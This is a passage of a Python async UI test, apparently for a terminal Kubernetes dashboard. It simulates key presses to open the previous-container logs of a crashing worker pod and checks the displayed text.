        await wait(pilot, lambda: latest(services) and latest(services).reachable, what="namespace read")
        await pilot.press("1")  # the Services pane, its cursor on deployment/api
        await pilot.press("down")
        assert services.current_ref().row == "deployment/worker"
        await pilot.press("l")
        await wait(pilot, lambda: isinstance(app.screen, DetailScreen), what="logs opened")
        shown = screen_text(app)
        assert f"logs of pod/{CRASHING} in app · worker (previous container)" in shown
        assert "page 19/42 loading (rss 268Mi)" in shown
